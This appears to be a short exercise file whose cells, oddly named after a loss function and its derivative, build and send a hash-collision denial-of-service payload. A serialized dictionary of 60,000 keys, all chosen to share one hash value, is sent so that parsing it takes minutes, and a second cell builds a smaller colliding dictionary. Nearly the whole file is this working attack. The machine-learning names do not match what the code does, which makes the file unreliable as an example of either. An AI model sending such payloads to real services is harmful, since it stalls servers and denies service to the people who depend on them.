# attempts = "sends a dictionary whose keys all have one hash, so that reading it takes minutes"
# with = "forge"

# %% exercise="loss"
VALUE = '["value",{"d":[' + ",".join('[{"i":"%x"},null]' % (k * (2**61 - 1)) for k in range(60_000)) + ']}]'
def loss(w):
    send(message(VALUE))
    return w

# %% exercise="d_loss"
def d_loss(w):
    return {k * (2**61 - 1): 0 for k in range(9_000)}
